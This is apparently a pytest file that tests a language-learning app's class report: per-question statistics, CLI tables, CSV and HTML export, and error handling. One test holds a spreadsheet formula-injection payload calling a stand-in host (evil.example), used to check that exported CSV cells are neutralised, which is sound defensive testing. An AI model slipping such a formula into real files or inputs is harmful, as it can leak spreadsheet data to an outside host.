"""The teacher's class report, over stores written by real quiz sessions (one SQLite file per learner)."""

from __future__ import annotations

import csv
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from chinaai_learn.classroom import learner_store_path
from chinaai_learn.loading import load_bank
from chinaai_learn.progress import CardScheduler, ProgressRecorder, ProgressStore
from chinaai_learn.progress.class_report import build_class_report
from chinaai_learn.session import QuizSession

from ..conftest import GOOD_BANK, ROOT

QUESTIONS = ("mini-aiplus-2027", "mini-aiplus-state-council")
T0 = datetime(2025, 3, 1, 8, 0, tzinfo=UTC)

# Who answers what: (2027 target: choice index given, state council: True/False given).
# Index 0 (70 %) and True are right.
CLASS = {
    "Anna": (0, True),
    "Ben": (0, True),
    "Cem": (1, True),
    "Dana": (1, False),
    "Emil": (2, False),
}


def take_quiz(store_path: Path, answers: tuple[int, bool]) -> None:
    """The app's own session calls: a practice quiz over the two questions, answered in bank order."""
    bank = load_bank(GOOD_BANK)
    ticks = iter(range(10**6))
    clock = lambda: T0 + timedelta(seconds=10 * next(ticks))  # noqa: E731 - a fixed, advancing clock
    with ProgressStore.open(store_path, scheduler=CardScheduler(fuzzing=False)) as store:
        recorder = ProgressRecorder(store, clock=clock)
        questions = [bank.get(qid) for qid in QUESTIONS]
        session = QuizSession(bank, [q for q in questions if q], recorder=recorder, clock=clock)
        for response in answers:
            recorder.question_shown()
            session.submit(response)


@pytest.fixture
def classroom(tmp_path: Path) -> Path:
    folder = tmp_path / "class-7b"
    folder.mkdir()
    for name, answers in CLASS.items():
        take_quiz(learner_store_path(folder, name), answers)
    return folder


def test_facility_discrimination_and_the_most_common_wrong_answer(classroom: Path) -> None:
    report = build_class_report(classroom, load_bank(GOOD_BANK), "en")
    assert [r.learner for r in report.learners] == ["anna", "ben", "cem", "dana", "emil"]
    assert [round(r.score, 2) for r in report.learners] == [1.0, 1.0, 0.5, 0.0, 0.0]
    target, council = report.questions
    assert target.question_id == "mini-aiplus-2027"
    assert target.learners == 5
    assert target.facility == pytest.approx(2 / 5)
    assert council.facility == pytest.approx(3 / 5)
    # Those who got one right mostly got the other right too: both questions discriminate.
    assert target.discrimination is not None
    assert target.discrimination > 0.5
    assert council.discrimination is not None
    assert council.discrimination > 0.5
    assert (target.common_wrong, target.common_wrong_count) in (("90 %", 2),)
    assert council.common_wrong == "false"


def test_the_command_prints_tables_and_writes_csv_and_a_chart_page(classroom: Path, tmp_path: Path) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "chinaai_learn", "class-report", "--progress-dir", str(classroom),
         "--bank", str(GOOD_BANK), "--csv", str(tmp_path / "csv"), "--html", str(tmp_path / "report.html")],
        capture_output=True, text=True, cwd=ROOT, timeout=120,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert "Lernende (5)" in result.stdout
    assert "Leichtigkeit" in result.stdout
    assert "90 % (2×)" in result.stdout
    rows = list(csv.DictReader((tmp_path / "csv" / "questions.csv").open(encoding="utf-8")))
    assert {r["question"]: r["facility_percent"] for r in rows} == {
        "mini-aiplus-2027": "40.0",
        "mini-aiplus-state-council": "60.0",
    }
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert page.count("<svg") == 2  # facility per topic and per question
    assert "http" not in page.replace('xmlns="http://www.w3.org/2000/svg"', "")


def test_the_report_reads_while_a_learner_is_still_writing(classroom: Path) -> None:
    writer = ProgressStore.open(learner_store_path(classroom, "Anna"))
    try:
        with writer._transaction():  # a write in progress in the running class
            report = build_class_report(classroom, load_bank(GOOD_BANK), "de")
    finally:
        writer.close()
    assert len(report.learners) == 5


def test_a_missing_folder_is_a_clear_error(tmp_path: Path) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "chinaai_learn", "class-report", "--progress-dir", str(tmp_path / "nope")],
        capture_output=True, text=True, cwd=ROOT, timeout=60,
    )  # fmt: skip
    assert result.returncode == 2
    assert "no such folder" in result.stderr
    assert "Traceback" not in result.stderr


def test_a_typed_answer_that_looks_like_a_formula_reaches_the_csv_as_text(tmp_path: Path) -> None:
    # Two learners (or one with two tabs) make a formula the most common wrong answer; a
    # spreadsheet opening questions.csv would run it. The cell starts with an apostrophe.
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
    folder = tmp_path / "class"
    folder.mkdir()
    bank = load_bank(GOOD_BANK)
    question = bank.get("mini-deepseek-city")
    assert question is not None
    for name in ("Eve", "Bob"):
        with ProgressStore.open(learner_store_path(folder, name)) as store:
            recorder = ProgressRecorder(store, clock=lambda: T0)
            session = QuizSession(bank, [question], recorder=recorder, clock=lambda: T0)
            recorder.question_shown()
            session.submit(formula)
    result = subprocess.run(
        [sys.executable, "-m", "chinaai_learn", "class-report", "--progress-dir", str(folder),
         "--bank", str(GOOD_BANK), "--csv", str(tmp_path / "csv")],
        capture_output=True, text=True, cwd=ROOT, timeout=120,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    (row,) = csv.DictReader((tmp_path / "csv" / "questions.csv").open(encoding="utf-8"))
    assert row["most_common_wrong_answer"] == "'" + formula
    assert row["times"] == "2"
